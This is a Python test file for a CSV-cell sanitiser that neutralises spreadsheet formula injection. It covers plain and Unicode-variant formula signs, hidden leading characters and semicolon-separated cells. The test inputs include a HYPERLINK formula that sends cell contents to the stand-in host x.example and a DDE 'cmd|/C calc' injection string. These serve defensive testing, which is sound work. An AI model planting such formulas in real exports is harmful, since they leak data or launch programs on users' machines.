"""Cells of CSV files that spreadsheet programs do not take for formulas."""

import csv
import io

import pytest
from hostile_texts import HOSTILE, UNSAFE

from nightread.csv_cells import csv_cell

SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\u2212"]
"""With their wide and small forms, and the minus sign."""
BEFORE = ["", " ", "   ", '"', "'", "\u00a0", "\u3000", "\u200b", "\u200e", "\ufeff", " \"' ", "\x00", "\u201c"]
FORMULA = 'HYPERLINK("http://x.example/?"&A1,"open")'


@pytest.mark.parametrize(
    "first",
    ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\u2212"],
)
@pytest.mark.parametrize(
    "before", ["", " ", "   ", '"', "'", "\u00a0", "\u3000", "\u200b", "\ufeff", " \"' ", "\x00", "“"]
)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(before: str, first: str) -> None:
    """Spreadsheet programs drop spaces and quotes before the sign, and take its wide forms for the same sign."""
    cell = csv_cell(f"{before}{first}{FORMULA}")

    assert isinstance(cell, str)
    assert cell.startswith("'")


@pytest.mark.parametrize("text", ["\tx", "\rx", "\nx", "\t=1+1", "\r\n=1+1"])
def test_text_that_begins_with_a_tab_or_a_line_break_gets_an_apostrophe(text: str) -> None:
    """Some programs drop them and read on; the escapes that replace them begin no formula."""
    assert str(csv_cell(text)).startswith("'\\")


@pytest.mark.parametrize("value", [0, -5, 1.5, -0.25, 1e-9, None, True, "-5", "+5", "-0.25", "1e-05", "-1.5E+3", ".5"])
def test_a_number_stays_a_number(value: object) -> None:
    """Also as text: a label may be a number."""
    assert csv_cell(value) is value


@pytest.mark.parametrize("text", ["-5+cmd|' /C calc'!A0", "+1+1", "-", "--5", "-\u0665", "1e5=", "-5 ", "+49 30 1234"])
def test_what_only_begins_like_a_number_is_no_number(text: str) -> None:
    """A sum and a call of another program begin with a sign and a digit."""
    assert csv_cell(text) == (text if text == "1e5=" else f"'{text}")


@pytest.mark.parametrize("text", ["nodule", "T1 -weighted", "a=b", "user@host", "ORIGINAL\\PRIMARY", "Größe; klein"])
def test_other_text_stays_as_it_is(text: str) -> None:
    """A sign within a text begins no formula."""
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [("a;=1+1", "a;'=1+1"), ('a; "@x;-y', "a;' \"@x;'-y"), ("a;;\uff1dx", "a;;'\uff1dx"), ("=a;=b", "'=a;'=b")],
)
def test_text_after_a_semicolon_is_guarded_too(text: str, cell: str) -> None:
    """Where the comma is the decimal separator, Excel takes semicolons for the ends of cells."""
    assert csv_cell(text) == cell


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_row_is_one_line_without_unsafe_characters(text: str) -> None:
    """The file may be read by programs that end a row at any line break."""
    stream = io.StringIO()

    csv.writer(stream, lineterminator="\n").writerow([csv_cell(text), csv_cell(1)])

    assert stream.getvalue().count("\n") == 1
    assert not UNSAFE.search(stream.getvalue())
